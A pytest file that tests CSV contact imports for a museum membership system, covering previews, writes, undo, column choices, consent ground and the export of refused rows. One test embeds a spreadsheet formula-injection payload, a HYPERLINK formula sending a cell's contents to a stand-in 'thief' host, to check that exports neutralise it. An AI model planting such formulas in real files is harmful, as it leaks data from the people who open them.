"""Importing people: what is new, changed and refused before it is written, nothing half-written, undone as a whole."""

import csv
from dataclasses import replace
from datetime import timedelta

import pytest

from tests.support.importing import choices, import_people, preview, preview_again, write
from tests.support.museum import NOW, Museum
from tests.support.people import who
from uvarovite.core.accounts import SYSTEM
from uvarovite.core.consent import ConsentEventKind
from uvarovite.services.consent.by_hand import record_by_hand
from uvarovite.services.contacts.fields import FieldDraft, make_field
from uvarovite.services.contacts.people import Person, person
from uvarovite.services.errors import BadInput, Conflict, NotFound
from uvarovite.services.imports.columns import ColumnChoice
from uvarovite.services.imports.standing import get_import
from uvarovite.services.imports.undo import refused_file, undo_import
from uvarovite.services.imports.views import report_json
from uvarovite.services.imports.writing import discard_import
from uvarovite.services.selection.table import Wanted, contact_page, count_contacts
from uvarovite.store.database import run_sql
from uvarovite.store.imports.staging import DRAFT_LASTS

FILE = """Contact no.,E-mail address,First name,Last name,Town
M-01,ada@slatepost.example,Ada,Thwaite-Gray,Marlby
M-02,,,,
,zoe@slatepost.example,Zoë,,
,ada@slatepost.example,Nora,Fenwick,Skarn
N-01,new@slatepost.example,Nia,Wren,Skarn
N-02,broken,Nia,Wren,Skarn
"""


def rows_of(museum: Museum, table: str) -> int:
    with museum.database.transaction() as tx:
        return int(run_sql(tx, f"SELECT count(*) FROM {table}")[0][0])


def topic_of(one: Person, key: str) -> str:
    return next(topic.state for topic in one.topics if topic.key == key)


def found(museum: Museum, search: str) -> int:
    return count_contacts(museum.database, SYSTEM, wanted=Wanted(search=search), now=NOW)


def test_looking_tells_what_would_happen_and_writes_nothing(museum: Museum) -> None:
    before = rows_of(museum, "contact")
    view = preview(museum, FILE)
    assert (view.new, view.changed, view.same, view.refused, view.rows) == (1, 2, 1, 2, 6)
    changes = {row.row: [(one.field, one.before, one.after) for one in row.changes] for row in view.changed_rows}
    assert changes == {2: [("town", "Skarn", "Marlby")], 4: [("first_name", "Ζωή", "Zoë")]}
    assert view.changed_fields == {"town": 1, "first_name": 1}
    assert [(row.row, row.code) for row in view.refusals] == [(5, "ambiguous"), (7, "address_malformed")]
    assert view.refusals[0].cells[1] == "ada@slatepost.example"
    assert rows_of(museum, "contact") == before
    assert get_import(museum.database, SYSTEM, view.id) == view
    discard_import(museum.database, SYSTEM, view.id)
    assert rows_of(museum, "import_file") == 1
    with museum.database.transaction() as tx:
        assert run_sql(tx, "SELECT 1 FROM pg_class WHERE relname LIKE 'import_rows%'") == []


def test_writing_does_what_was_told_and_once(museum: Museum) -> None:
    view = preview(museum, FILE)
    done = write(museum, view)
    assert (done.new, done.changed, done.same, done.refused) == (view.new, view.changed, view.same, view.refused)
    ada = who(museum, "M-01")
    assert ada.record["town"] == "Marlby"
    assert ada.record["pledge"] == {"amount": "750.50", "currency": "EUR"}
    assert ada.history[0].changes == {"town": {"before": "Skarn", "after": "Marlby"}}
    assert who(museum, "M-02").record["town"] == "Skellbeck"
    assert (found(museum, "MARLBY gray"), found(museum, "nia wren"), found(museum, "broken")) == (1, 1, 0)
    with pytest.raises(Conflict):
        write(museum, view)
    assert preview(museum, FILE).same == 4


def test_a_field_is_kept_filled_or_overwritten_as_its_policy_says(museum: Museum) -> None:
    file = "Contact no.,First name,Town,Pledge\nM-04,Dai,Marlby,99.00\nM-05,Edd,Marlby,99.00\n"
    view = preview(museum, file)
    assert view.changed_fields == {"first_name": 2, "town": 2, "pledge": 2}
    view = preview_again(museum, view, columns=choices(view, first_name="fill", town="keep", pledge="fill"))
    assert view.changed_fields == {"first_name": 1, "pledge": 1}
    write(museum, view)
    dai, edda = who(museum, "M-04"), who(museum, "M-05")
    assert [dai.record[key] for key in ("first_name", "town", "pledge")] == [
        "Dai",
        "Breccia",
        {"amount": "30.00", "currency": "EUR"},
    ]
    assert [edda.record[key] for key in ("first_name", "town", "pledge")] == [
        "Edda",
        "Skarn",
        {"amount": "99.00", "currency": "EUR"},
    ]
    assert found(museum, "dai breccia") == 1


def test_people_are_known_by_their_address_alone_where_that_is_chosen(museum: Museum) -> None:
    file = (
        "Contact no.,E-mail address,Town\nX-77,benoit@slatepost.example,Marlby\nM-01,benoit2@slatepost.example,Skarn\n"
    )
    view = preview(museum, file)
    # By number: X-77 is unknown, and his address belongs to somebody with another number; M-01 is Ada.
    assert (view.new, view.changed) == (1, 1)
    view = preview_again(museum, view, key="address")
    assert (view.new, view.changed, view.refused) == (0, 1, 1)
    assert [(row.row, row.code) for row in view.refusals] == [(3, "number_taken")]
    write(museum, view)
    with museum.database.transaction() as tx:
        numbers = run_sql(tx, "SELECT contact_no FROM contact WHERE address = 'benoit@slatepost.example'")
    assert [row.contact_no for row in numbers] == ["X-77"]


def test_an_import_is_undone_as_a_whole_but_for_what_happened_since(museum: Museum) -> None:
    file = """Contact no.,E-mail address,Town,Tags
M-01,ada@slatepost.example,Marlby,"walker, lamp owner"
M-02,,Marlby,
N-01,nia@slatepost.example,Skarn,
N-02,omar@slatepost.example,Skarn,
"""
    view = write(museum, preview(museum, file), topic="museum_news", legal_basis="Signed at the open day")
    assert topic_of(who(museum, "N-01"), "museum_news") == "subscribed"
    assert who(museum, "M-01").tags == ["lamp owner", "walker"]
    import_people(museum, "Contact no.,Town\nM-02,Breccia\n", now=NOW + timedelta(hours=1))
    record_by_hand(
        museum.database,
        SYSTEM,
        contact_no="N-02",
        topic="museum_news",
        kind=ConsentEventKind.CONFIRMED,
        at=NOW + timedelta(hours=2),
        wording="by telephone",
    )
    later = NOW + timedelta(hours=3)
    undone = undo_import(museum.database, SYSTEM, view.id, now=later)
    assert (undone.removed, undone.restored, undone.kept) == (1, 1, 2)
    ada = who(museum, "M-01")
    assert (ada.record["town"], ada.tags, topic_of(ada, "museum_news")) == ("Skarn", [], "never")
    assert topic_of(ada, "field_walks") == "subscribed"
    assert who(museum, "M-02").record["town"] == "Breccia"
    assert topic_of(who(museum, "N-02"), "museum_news") == "subscribed"
    assert (
        found(museum, "nia"),
        found(museum, "omar"),
        found(museum, "ada patron skarn"),
        found(museum, "marlby"),
    ) == (
        0,
        1,
        1,
        0,
    )
    with pytest.raises(Conflict):
        undo_import(museum.database, SYSTEM, view.id, now=later)
    # Who was taken away comes back by the same file, with the same number.
    assert preview(museum, file).new == 1


def test_columns_carry_tags_and_topics(museum: Museum) -> None:
    file = (
        'E-mail,Tags,Topics\nkim@slatepost.example,"Walker; walker, caver",Museum news\n'
        'lou@slatepost.example,,"field_walks, Museum news"\nmoe@slatepost.example,,Gardening\n'
    )
    view = preview(museum, file)
    assert [column.use for column in view.columns] == ["field", "tags", "topics"]
    assert view.topics_named == {"field_walks": 1, "museum_news": 2}
    assert [(row.row, row.code) for row in view.refusals] == [(4, "no_such_topic")]
    with pytest.raises(BadInput, match="how these people opted in"):
        write(museum, view)
    view = preview_again(museum, view, tags=["open day"])
    write(museum, view, legal_basis="Ticked on the visitor form")
    page = contact_page(museum.database, SYSTEM, wanted=Wanted(search="kim@"), now=NOW)
    assert page.rows[0].tags == ["caver", "open day", "Walker"]
    lou = contact_page(museum.database, SYSTEM, wanted=Wanted(search="lou@"), now=NOW).rows[0]
    assert {mark.key: mark.state for mark in lou.topics} == {"field_walks": "subscribed", "museum_news": "subscribed"}
    told = person(museum.database, SYSTEM, lou.id, NOW).ledger[0]
    assert (told.channel, told.evidence.legal_basis, told.evidence.row) == (
        "import",
        "Ticked on the visitor form",
        3,
    )


def test_what_was_chosen_for_columns_is_remembered_for_the_next_file(museum: Museum) -> None:
    file = "who,joined\nkim@slatepost.example,03/04/2026\n"
    view = preview(museum, file)
    assert [(one.field, one.basis) for one in view.columns] == [("address", "content"), (None, "nothing")]
    assert view.columns[1].proposal is not None
    assert view.columns[1].proposal.type == "date"
    chosen = [
        ColumnChoice(use="field", field="address"),
        ColumnChoice(use="field", field="renews_on", date_order="dmy", policy="fill"),
    ]
    asked = preview_again(museum, view, columns=chosen)
    # The address was found; that somebody chose another column does not make it theirs.
    assert [one.basis for one in asked.columns] == ["content", "chosen"]
    assert asked.columns[0].confidence == view.columns[0].confidence
    write(museum, asked)
    again = preview(museum, "Who,Joined\nlou@slatepost.example,05/06/2026\n")
    assert [(one.field, one.basis, one.policy) for one in again.columns] == [
        ("address", "memory", "overwrite"),
        ("renews_on", "memory", "fill"),
    ]
    kept = preview_again(museum, again, columns=choices(again, renews_on="keep"))
    assert [(one.basis, one.policy) for one in kept.columns] == [("memory", "overwrite"), ("memory", "keep")]
    assert again.new_rows[0].record["renews_on"] == "2026-06-05"


def test_the_refused_rows_come_back_as_a_file_that_can_be_mended(museum: Museum) -> None:
    view = write(museum, preview(museum, FILE))
    name, text = refused_file(museum.database, SYSTEM, view.id)
    assert name == "refused from more.csv"
    lines = text.lstrip("\ufeff").splitlines()
    assert lines[0] == "Contact no.,E-mail address,First name,Last name,Town,refused because"
    assert lines[1].startswith(",ada@slatepost.example,Nora,Fenwick,Skarn,More than one person")
    assert lines[2].startswith("N-02,broken,Nia,Wren,Skarn,")
    mended = "\n".join(lines).replace("N-02,broken", "N-02,nia@slatepost.example")
    assert preview(museum, mended).new == 1


def test_the_refused_rows_file_runs_nothing_and_is_read_back_as_it_was(museum: Museum) -> None:
    cell = '=HYPERLINK("http://thief.example?"&A2)'
    rows = f'E-mail,Town\nbroken,"{cell.replace(chr(34), chr(34) * 2)}"\n'
    view = write(museum, preview(museum, rows))
    _, text = refused_file(museum.database, SYSTEM, view.id)
    found = next(csv.reader([text.splitlines()[1]]))
    assert found[1] == f"'{cell}"
    again = preview(museum, text.replace("broken", "kim@slatepost.example"))
    assert again.new_rows[0].record["town"] == cell


def test_what_later_rows_contradict_is_asked_before_anything_of_it_is_taken(museum: Museum) -> None:
    """The first 400 rows write 1,250 and 12.50; one far behind them writes 3,75."""
    amounts = ["12.50", *['"1,250"'] * 400, '"3,75"']
    file = "E-mail,Pledge\n" + "".join(f"p{n}@slatepost.example,{one}\n" for n, one in enumerate(amounts))
    view = preview(museum, file)
    assert (view.columns[1].decimal_comma, view.columns[1].open) == (None, ["decimal"])
    assert {row.code for row in view.refusals} == {"two_readings"}
    assert (view.new, view.refused) == (2, 400)
    said = choices(view)
    said[1] = replace(said[1], decimal_comma=False)
    told = preview_again(museum, view, columns=said)
    assert (told.columns[1].doubts, told.columns[1].open, told.new) == (["decimal"], [], 402)


def test_times_in_a_file_are_those_of_the_organisation(museum: Museum) -> None:
    make_field(museum.database, SYSTEM, FieldDraft(key="seen", label="Seen", type="date_time"))
    file = "E-mail,Seen\nkim@slatepost.example,2026-06-14 14:30\n"
    # Summer time where the museum stands, both the first time that a file is looked at and as it is remembered.
    for _ in range(2):
        assert preview(museum, file).new_rows[0].record["seen"] == "2026-06-14T13:30:00Z"
        write(museum, preview(museum, file.replace("kim", "lou")))


def test_numbers_that_meet_other_peoples_are_told_before_they_get_another_address(museum: Museum) -> None:
    view = preview(museum, "id,E-mail,Town\nM-01,kim@slatepost.example,Skarn\nM-03,zoe@slatepost.example,Skarn\n")
    assert (view.columns[0].use, view.columns[0].doubts, view.meets) == ("leave_out", ["contact_number"], None)
    said = choices(view)
    said[0] = replace(said[0], use="field", field="contact_no")
    meets = preview_again(museum, view, columns=said).meets
    assert meets is not None
    assert (meets.rows, meets.examples[0].row, meets.examples[0].name) == (1, 2, "Ada Thwaite-Gray")
    assert (meets.examples[0].address, meets.examples[0].their_address) == (
        "kim@slatepost.example",
        "ada@slatepost.example",
    )


def test_consent_is_stated_with_its_ground_and_never_opens_what_was_closed(museum: Museum) -> None:
    view = preview(museum, "Contact no.\nM-01\nM-08\nM-06\n")
    with pytest.raises(BadInput, match="how these people opted in"):
        write(museum, view, topic="field_walks", legal_basis=" ")
    again = preview_again(museum, view, topic="field_walks")
    assert again.outlook is not None
    assert (again.outlook.subscribed, again.outlook.already, again.outlook.left) == (0, 2, 1)
    news = preview_again(museum, view, topic="museum_news")
    assert news.outlook is not None
    assert news.outlook.subscribed == 3
    write(museum, view, topic="field_walks", legal_basis="Said so at the desk")
    assert topic_of(who(museum, "M-08"), "field_walks") == "left"
    assert [line.evidence.legal_basis for line in who(museum, "M-01").ledger] == ["Signed the list at the open day"]


def test_a_dry_run_and_a_refused_import_leave_nothing_behind(museum: Museum) -> None:
    tables = ("contact", "import_file", "consent_event", "import_refusal", "import_piece", "change_set")
    before = [rows_of(museum, table) for table in tables]
    report = report_json(import_people(museum, FILE, dry_run=True))
    assert report["new"] == 1
    assert {row["row"]: row["reason"] for row in report["refused"]} == {4: "ambiguous", 6: "address_malformed"}
    assert report["columns"][1] == {"header": "E-mail address", "field": "address", "type": "text"}
    for topic, legal_basis in (("field_walks", ""), ("no such topic", "a good legal_basis")):
        with pytest.raises(BadInput):
            import_people(museum, FILE, topic=topic, legal_basis=legal_basis)
    with pytest.raises(BadInput) as fault:
        import_people(museum, "")
    assert fault.value.code == "file_empty"
    with pytest.raises(BadInput, match="quote"):
        import_people(museum, FILE + 'N-03,"open,Nia,Wren,Skarn\n')
    assert [rows_of(museum, table) for table in tables] == before


def test_columns_can_be_chosen_by_hand(museum: Museum) -> None:
    view = preview(museum, "who,where\nkim at slatepost.example,Skarn\nlee@slatepost.example,Skarn\n")
    assert [column.field for column in view.columns] == [None, None]
    assert view.new == 0
    chosen = preview_again(museum, view, columns=[ColumnChoice(use="field", field=key) for key in ("address", "town")])
    assert (chosen.new, chosen.refused) == (1, 1)
    for keys in (["address"], ["address", "shoe_size"], ["town", "town"]):
        with pytest.raises(BadInput):
            preview_again(museum, view, columns=[ColumnChoice(use="field", field=key) for key in keys])
    with pytest.raises(BadInput):
        preview_again(museum, view, columns=[ColumnChoice(use="burn"), ColumnChoice(use="leave_out")])
    discard_import(museum.database, SYSTEM, view.id)
    with pytest.raises(NotFound):
        preview_again(museum, view)


def test_another_encoding_reads_the_same_file_anew(museum: Museum) -> None:
    view = preview(museum, "E-mail,First name\nkim@slatepost.example,Łukasz\n".encode("iso-8859-2"))
    assert view.form.guessed
    assert view.new_rows[0].record["first_name"] == "Łukasz"
    other = preview_again(museum, view, form={"encoding": "iso-8859-1"})
    assert other.new_rows[0].record["first_name"] == "£ukasz"
    with pytest.raises(BadInput):
        preview_again(museum, view, form={"encoding": "utf-8"})


def test_two_rows_for_one_person_are_told(museum: Museum) -> None:
    view = preview(museum, "Contact no.,E-mail address,Town\nM-03,,Marlby\n,zoe@slatepost.example,Skarn\nM-03,,Skarn\n")
    told = [(row.row, row.code, row.message) for row in view.refusals]
    assert told == [
        (3, "same_person", "Same person as row 2."),
        (4, "repeated", "Same person as row 2."),
    ]
    assert view.changed == 1


def test_files_that_were_left_are_forgotten_after_a_day(museum: Museum) -> None:
    old = preview(museum, FILE)
    before = rows_of(museum, "import_file")
    import_people(museum, "Contact no.\nM-01\n", now=NOW + DRAFT_LASTS + timedelta(minutes=1))
    assert rows_of(museum, "import_file") == before
    with pytest.raises(NotFound):
        get_import(museum.database, SYSTEM, old.id)
